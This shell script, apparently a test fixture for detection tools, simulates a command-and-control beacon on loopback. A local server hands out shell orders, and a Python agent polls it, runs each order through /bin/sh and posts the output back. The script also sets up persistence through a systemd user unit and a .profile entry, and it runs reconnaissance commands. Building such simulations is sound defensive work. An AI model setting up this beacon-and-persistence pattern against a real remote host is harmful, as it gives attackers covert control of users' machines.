# Behaves like a beacon: it asks a server on loopback for orders again and again, runs one,
# and would start again with the user's session.
cat >server.py <<'SERVER'
import http.server
class Orders(http.server.BaseHTTPRequestHandler):
    orders = [b"", b"id; hostname", b"", b""]
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        body = Orders.orders.pop(0) if Orders.orders else b""
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args): pass
http.server.HTTPServer(("127.0.0.1", 39570), Orders).serve_forever()
SERVER
python3 server.py &
until python3 -S -c 'import socket; socket.create_connection(("127.0.0.1", 39570))' 2>/dev/null; do sleep 0.1; done
mkdir -p .config/systemd/user .local/share
cat >.local/share/agent <<'BEACON'
#!/usr/bin/python3
import os, subprocess, time, urllib.request
for _ in range(4):
    answer = urllib.request.urlopen("http://127.0.0.1:39570/check?host=" + os.uname().nodename, data=b"hello").read()
    if answer:
        out = subprocess.run(["/bin/sh", "-c", answer.decode()], capture_output=True).stdout
        urllib.request.urlopen("http://127.0.0.1:39570/result", data=out).read()
    time.sleep(0.5)
BEACON
chmod +x .local/share/agent
printf '[Service]\nExecStart=%s/.local/share/agent\n[Install]\nWantedBy=default.target\n' "$HOME" >.config/systemd/user/agent.service
printf '\nsetsid ~/.local/share/agent &\n' >>.profile
whoami; uname -a; ip addr 2>/dev/null | wc -l; cat /etc/passwd | wc -l
.local/share/agent
